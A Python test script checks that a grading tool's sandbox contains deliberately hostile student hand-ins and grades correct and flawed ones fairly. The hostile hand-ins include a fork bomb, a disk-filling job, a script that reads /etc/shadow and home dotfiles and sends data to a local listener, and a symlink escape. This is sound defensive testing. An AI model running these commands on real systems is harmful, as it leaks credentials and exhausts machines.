#!/usr/bin/env python3
"""Grades a class of hand-ins that were written on purpose: a right one, three that are wrong in typical
ways, and some that mean harm. One run has to judge each as it deserves, and nothing may come out.

usage: grade_class_test.py LOGGIA-CLI TASK...

Exit status: 0 where all is as it should be, 77 where there is no sandbox here, 1 otherwise.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

SKIPPED = 77
SECRET = "the-secret-of-the-grader"

# ---- Right and wrong programs. $CLI is loggia-cli in the folder of the hand-in. ----

SH = '#!/bin/sh\nCLI="$HANDIN/loggia-cli"\n'

RULES = Path(__file__).parents[2] / "resources/examples/wumpus/wumpus_rules.txt"


def shell(right, **wrong):
    """Hand-ins that are scripts around loggia-cli: NAME=(SCRIPT, CHECK) fails in CHECK."""
    programs = {"right": ({"run": SH + right}, None)}
    for name, (script, check) in wrong.items():
        programs[name] = ({"run": SH + script}, check)
    return programs


def davis_putnam():
    call = '"$CLI" davis-putnam "$1" "$2"'
    return shell(
        call,
        refuses=('sed -n "/^0$/,\\$p" "$1" >"$2"', "satisfiable"),
        forgets_text=(call + '; sed -i "/^0$/q" "$2"', "back-matter"),
        flips=(call + "; sed -i '/^0$/,$!{s/T/X/;s/F/T/;s/X/F/}' \"$2\"", "satisfiable"))


def peg_front():
    call = '"$CLI" peg-front "$1" "$2"'
    return shell(
        call,
        no_key=(call + '; sed -i "/^0$/q" "$2"', None),
        no_clauses=(call + '; sed -i -n "/^0$/,\\$p" "$2"', None),
        forgets_start=(call + "; sed -i '1,/^0$/{/^-\\{0,1\\}[0-9]*$/{/^0$/!d}}' \"$2\"", None))


def peg_back():
    call = '"$CLI" peg-back "$1" "$2"'
    return shell(
        call,
        no_solution=('echo "NO SOLUTION" >"$2"', None),
        backwards=(call + '; tac "$2" >t; cat t >"$2"', None),
        one_less=(call + '; sed -i "1d" "$2"', None))


def maxconnect4():
    call = '"$CLI" maxconnect4 one-move "$2" "$3" "$4" --method alpha-beta'
    return shell(
        call,
        same_player=(call + "; p=$(tail -n 1 \"$2\"); sed -i \"7s/.*/$p/\" \"$3\"", "legal"),
        looks_too_far=('"$CLI" maxconnect4 one-move "$2" "$3" 9', "depth-limit"),
        one_move_ahead=('"$CLI" maxconnect4 one-move "$2" "$3" 1 --method alpha-beta', "depth"))


def check_true_false():
    call = '"$CLI" check_true_false "$1" "$2" "$3"'
    programs = shell(
        call,
        always_true=('echo "definitely true" >result.txt', "false"),
        unknown=(call + "; sed -i 's/possibly.*/result unknown/' result.txt", "possibly"),
        never_both=(call + "; sed -i 's/both.*/definitely true/' result.txt", "both"))
    for name, (files, _) in programs.items():
        rules = RULES.read_text()
        # One hand-in has a rule too few and one line too many.
        files["wumpus_rules.txt"] = rules + ("(not P_4_4)\n" if name == "always_true" else "")
    return programs


def translator():
    call = '"$CLI" translate "$@"'
    return shell(
        call,
        no_substitutions=('for a; do shift; case $a in -s|--subs) ;; *) set -- "$@" "$a";; esac; '
                          "done; " + call, "substitution"),
        no_domain=(call + ' | grep -v domain_size', "formulas"),
        no_collecting=('for a; do shift; case $a in -c|--collect) ;; *) set -- "$@" "$a";; esac; '
                       "done; " + call, "collect"))


SEARCH = r"""#!/usr/bin/python3
import heapq, sys
FAULT = @FAULT@
rows = [row.strip() for row in open(sys.argv[1]) if row.strip()]
algorithm, more = sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else ''
start = next((x, y) for y, row in enumerate(rows) for x, c in enumerate(row) if c == 'P')
goal = 1, len(rows) - 2
if rows[goal[1]][1] == '%':
    goal = next((x, y) for y, row in enumerate(rows) for x, c in enumerate(row) if c == '.')
expanded = 0
def successors(at):
    global expanded
    expanded += 1
    for name, dx, dy in (('North', 0, -1), ('South', 0, 1), ('East', 1, 0), ('West', -1, 0)):
        x, y = at[0] + dx, at[1] + dy
        if rows[y][x] != '%':
            yield (x, y), name, 2 ** x if more == 'stay-west' and FAULT != 'costs' else 1
def by_cost(h):
    fringe, seen, order = [(h(start), 0, 0, start, [])], set(), 0
    while fringe:
        _, _, cost, at, path = heapq.heappop(fringe)
        if at in seen:
            continue
        seen.add(at)
        if at == goal:
            if FAULT == 'goal':
                list(successors(at))
            return cost, path
        for to, name, step in successors(at):
            order += 1
            heapq.heappush(fringe, (cost + step + h(to), order, cost + step, to, path + [name]))
def listed(take):
    fringe, seen = [(start, 0, [])], set()
    while fringe:
        at, cost, path = fringe.pop(take)
        if at == goal:
            if FAULT == 'goal':
                list(successors(at))
            return cost, path
        if at not in seen:
            seen.add(at)
            for to, name, step in successors(at):
                fringe.append((to, cost + step, path + [name]))
def limited(at, cost, path, limit, seen):
    if at == goal:
        return cost, path
    if limit > 0:
        for to, name, step in successors(at):
            if to not in seen:
                seen.add(to)
                found = limited(to, cost + step, path + [name], limit - 1, seen)
                if found:
                    return found
                if FAULT != 'limited':
                    seen.remove(to)
manhattan = lambda at: abs(at[0] - goal[0]) + abs(at[1] - goal[1])
if algorithm in ('breadth-first', 'bidirectional'):
    found = listed(0)
elif algorithm == 'depth-first':
    found = listed(-1)
elif algorithm == 'depth-limited':
    found = limited(start, 0, [], int(more), {start})
elif algorithm == 'iterative-deepening':
    for limit in range(len(rows) * len(rows[0])):
        found = limited(start, 0, [], limit, {start})
        if found:
            break
else:
    found = by_cost((lambda at: 0) if algorithm == 'uniform-cost' else manhattan)
if found:
    print('cost', found[0])
    print('path', *found[1])
else:
    print('no path')
print('expanded', expanded)
"""


def search():
    checks = {"right": None, "costs": "uniform-cost", "goal": "expansions", "limited": "depth-limited"}
    return {name: ({"search.py": SEARCH.replace("@FAULT@", repr(name))}, check)
            for name, check in checks.items()}


FORMULA_GAME = r"""from formula_tree import Leaf, NotTree, AndTree, OrTree
def build_tree(formula):
    def read(at):
        if at < len(formula) and formula[at] == '-':
            child, at = read(at + 1)
            return NotTree(child), at
        if at < len(formula) and formula[at] == '(':
            left, sign = read(at + 1)
            if formula[sign] not in '*+':
                raise ValueError
            right, end = read(sign + 1)
            if formula[end] != ')':
                raise ValueError
            return (AndTree if formula[sign] == '*' else OrTree)(left, right), end + 1
        if not (@LETTER@):
            raise ValueError
        return Leaf(formula[at]), at + 1
    try:
        tree, end = read(0)
        return tree if end == len(formula) else None
    except (ValueError, IndexError):
        return None
def draw_formula_tree(root, depth=0):
    if not root.children:
        return root.symbol
    lines = [draw_formula_tree(child, depth + 1) for child in reversed(root.children)]
    return root.symbol + ' ' + ('\n' + '  ' * (depth + 1)).join(lines)@DRAWN@
def evaluate(root, variables, values):
    if not root.children:
        return int(values[variables.index(root.symbol)])
    parts = [evaluate(child, variables, values) for child in root.children]
    return @ONE@ - parts[0] if root.symbol == '-' else min(parts) if root.symbol == '*' else max(parts)
def winner(root, turns, variables, values):
    if len(values) == len(turns):
        return 'AE'[int(evaluate(root, variables, values))]
    player = turns[len(values)]
    ends = [winner(root, turns, variables, values + value) for value in '01']
    return player if player in ends else ends[0]
def play2win(root, turns, variables, values):
    player = turns[len(values)]
    wins = [winner(root, turns, variables, values + value) == player for value in '01']
    if wins[0] == wins[1]:
        return @TIE@
    return 1 if wins[1] else 0
"""


def formula_game():
    def module(letter="'a' <= formula[at] <= 'z'", drawn="", tie="1 if player == 'E' else 0", one="1"):
        text = FORMULA_GAME.replace("@LETTER@", letter).replace("@DRAWN@", drawn).replace("@ONE@", one)
        return {"formula_game_functions.py": text.replace("@TIE@", tie)}
    return {"right": (module(), None),
            "right_in_floats": (module(one="1.0"), None),
            "capitals": (module(letter="formula[at].isalpha()"), "no-formulas"),
            "line_break": (module(drawn=" + ('' if depth else '\\n')"), "drawing"),
            "ties": (module(tie="1"), "play2win")}


PROBLEMS = {
    "cnf": "(a & b) | (a & c) | (b & c)\n",
    "mace4": "formulas(assumptions).\n  f(f(x, y), z) = f(x, f(y, z)).\n  f(e, x) = x.\n"
             "  f(i(x), x) = e.\nend_of_list.\nformulas(goals).\n  i(x) = x.\nend_of_list.\n",
}


def answers(**texts):
    return {name: ({"answer.txt": text}, check) for name, (text, check) in texts.items()}


def cnf():
    return answers(right=("(a | b) & (a | c) & (b | c)\n", None),
                   a_clause_less=("(a | b) & (a | c)\n", "equivalent"),
                   not_cnf=("(a & b) | (a & c) | (b & c)\n", "form"),
                   not_minimum=("(a | b) & (a | c) & (b | c) & (a | b | c)\n", "clauses"))


def mace4():
    def group(inverse, product):
        return ("interpretation( 3, [number = 1,seconds = 0], [\n    function(e, [0]),\n"
                f"    function(i(_), [{inverse}]),\n    function(f(_,_), [{product}])]).\n")
    return answers(right=(group("0,2,1", "0,1,2,1,2,0,2,0,1"), None),
                   no_inverse=(group("0,1,2", "0,1,2,1,2,0,2,0,1"), "formulas"),
                   not_associative=(group("0,2,1", "0,1,2,1,2,0,2,0,0"), "formulas"),
                   no_model=("I found none.\n", "readable"))


PROGRAMS = {"cnf": cnf, "mace4": mace4, "davis-putnam": davis_putnam, "peg-front": peg_front, "peg-back": peg_back,
            "maxconnect4": maxconnect4, "check-true-false": check_true_false,
            "translator": translator, "search": search, "formula-game": formula_game}

# ---- Those that mean harm: the same for all tasks of programs, and for all of files. ----


def write_harmful_files(handins):
    for name, content in {"deep": b"(" * 300_000 + b"a", "long": b"a & " * 300_000 + b"a\n",
                          "garbage": bytes(range(256)) * 100}.items():
        (handins / name).mkdir()
        (handins / name / "answer.txt").write_bytes(content)
    (handins / "huge").mkdir()
    with open(handins / "huge" / "answer.txt", "wb") as sparse:
        sparse.truncate(10_000_000_000)
    (handins / "link").mkdir()
    (handins / "link" / "answer.txt").symlink_to("../../secret.txt")
    return ["deep", "long", "garbage", "huge", "link"]


# One task is enough for what wears out the machine: all of them have the same sandbox. In the others the
# endless program ends as if its time was over, so that they judge the same and take no second for each case.
WORN_OUT = "translator"


def harmful(folder, task, port):
    outside = folder / "secret.txt"
    home = Path.home()
    wearing = {
        "endless": "while :; do :; done\n",
        "fork_bomb": "b() { b | b & }\nb\nwhile :; do b; done\n",
        "ten_gigabytes": "for f in big /tmp/big /dev/shm/big \"$HANDIN/big\"; do\n"
                         "    head -c 10G /dev/zero >$f\ndone\n"}
    return (wearing if task == WORN_OUT else {"endless": "kill -XCPU $$\n"}) | {
        "spy": f"cat {outside} {home}/.* /etc/passwd /etc/shadow 2>/dev/null | tee out.txt\n"
               f"ls -a {home} {folder} 2>/dev/null\n"
               f"echo escaped >{folder}/escaped; echo escaped >{home}/.loggia-escaped\n"
               f"echo escaped >\"$HANDIN/escaped\"\n"
               "python3 -c 'import socket\n"
               f"s = socket.create_connection((\"127.0.0.1\", {port}), 2)\n"
               "s.sendall(b\"escaped\")'\n"
               "cat out.txt >\"$2\" 2>/dev/null; cp out.txt result.txt\n"}


class Listener:
    """A server at the door of the sandbox, which nobody may call."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.calls = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            self.socket.accept()[0].close()
            self.calls += 1


class Faults:
    def __init__(self, task):
        self.task = task
        self.count = 0

    def require(self, holds, what):
        if not holds:
            self.count += 1
            print(f"{self.task}: {what}")


def tree(folder):
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


def write_class(folder, cli, task, port):
    programs = PROGRAMS[task]()
    handins = folder / "class"
    for name, (files, _) in programs.items():
        (handins / name).mkdir(parents=True)
        for file, text in files.items():
            path = handins / name / file
            path.write_text(text)
            path.chmod(0o755)
        if "run" in files:
            shutil.copy(cli, handins / name / "loggia-cli")
    bad = list(harmful(folder, task, port)) if task not in PROBLEMS else write_harmful_files(handins)
    for name, script in harmful(folder, task, port).items() if task not in PROBLEMS else ():
        (handins / name).mkdir()
        path = handins / name / "run"
        path.write_text("#!/bin/sh\n" + script)
        path.chmod(0o755)
    (folder / "secret.txt").write_text(SECRET)
    (folder / "class.conf").write_text(
        f"task = {task}\ncases = 2\nseed = 3\nthreads = 2\ncpu-limit = 1\nwall-limit = 40\n"
        "process-limit = 64\ndisk-limit = 32\njournal = class.journal\n"
        "report = json class.json\nreport = html pages\n" +
        ("problem = problem.txt\n" if task in PROBLEMS else ""))
    (folder / "problem.txt").write_text(PROBLEMS.get(task, ""))
    return programs, bad


def check_task(cli, task):
    faults = Faults(task)
    listener = Listener()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        folder.chmod(0o755)
        programs, bad = write_class(folder, cli, task, listener.port)
        order = list(programs) + bad
        before = tree(folder)
        done = subprocess.run([cli, "grade", "--config", "class.conf"] +
                              [f"class/{each}" for each in order],
                              cwd=folder, text=True, check=False, capture_output=True)
        if "bubblewrap" in done.stderr:
            print(done.stderr)
            return SKIPPED
        faults.require(done.returncode == 0, f"status {done.returncode}: {done.stderr}")
        if done.returncode != 0:
            return 1
        text = (folder / "class.json").read_text()
        handins = {each["name"]: each for each in json.loads(text)["handins"]}
        faults.require(list(handins) == order, f"graded {list(handins)}")
        for each, (_, failing) in programs.items():
            judge(faults, handins[each], each, failing)
        for each in bad:
            found = handins[each]
            few = found["out_of"] / 5  # what anything gets that ends without a move on a full board
            faults.require(found["points"] <= few, f"{each} has {found['points']} points")
            faults.require(any(check["failure"] for check in found["checks"]) or found["note"],
                           f"{each} is not told why")
        # Nothing came out, and nothing is left behind.
        faults.require(listener.calls == 0, "the network was reached")
        pages = "".join(path.read_text() for path in (folder / "pages").iterdir())
        for secret in (SECRET, "root:x:0:0"):
            faults.require(secret not in text + pages, f"the reports hold {secret}")
        faults.require("escaped" not in {path.name for path in folder.rglob("*")} and
                       not (Path.home() / ".loggia-escaped").exists(), "a file was written")
        new = [each for each in tree(folder) if each not in before and not each.startswith("pages/")]
        faults.require(new == ["class.journal", "class.json", "pages"], f"new files {new}")
        faults.require(len(list((folder / "pages").iterdir())) == len(order) + 1, "a page is missing")
        # A second run knows all of it.
        again = subprocess.run([cli, "grade", "--config", "class.conf"] +
                               [f"class/{each}" for each in order],
                               cwd=folder, text=True, check=False, capture_output=True)
        faults.require(again.returncode == 0 and (folder / "class.json").read_text() == text,
                       "the second run says something else")
    return 1 if faults.count else 0


def judge(faults, found, name, failing):
    missed = [check["id"] for check in found["checks"] if check["passed"] != check["cases"]]
    told = [(check["id"], check["failure"]["why"]) for check in found["checks"] if check["failure"]]
    if name.startswith("right"):
        # Games are won by whoever plays better; all else is right or wrong.
        faults.require(set(missed) <= {"strength"}, f"{name} is judged wrong in {told}")
        return
    faults.require(found["state"] == "graded", f"{name} is {found['state']}: {found['note']}")
    faults.require(missed and found["points"] < found["out_of"], f"{name} has all points")
    faults.require(failing is None or failing in missed, f"{name} passes {failing}: {told}")
    faults.require(all(why for _, why in told), f"{name} is not told why")


def main():
    cli, *tasks = sys.argv[1:]
    results = [check_task(os.path.abspath(cli), task) for task in tasks]
    return 1 if 1 in results else SKIPPED if SKIPPED in results else 0


if __name__ == "__main__":
    sys.exit(main())
